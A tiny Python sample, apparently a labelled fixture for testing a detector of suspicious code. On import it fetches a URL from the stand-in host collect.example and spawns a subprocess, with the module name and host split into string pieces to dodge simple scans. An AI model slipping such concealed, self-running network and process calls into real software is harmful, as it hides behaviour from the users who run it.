# network, fixed-address, python: through a class, under a condition, with a name from pieces
import sys
import urllib.request as _u

_run = getattr(__import__("sub" + "process"), "run")


class _Setup:
    @staticmethod
    def first():
        return _u.urlopen("https://" + "collect.example" + "/x").read()

    @classmethod
    def second(cls):
        return _run([sys.executable, "-m", "worker"])


if sys.version_info > (3,):
    _Setup.first()
    _Setup.second()
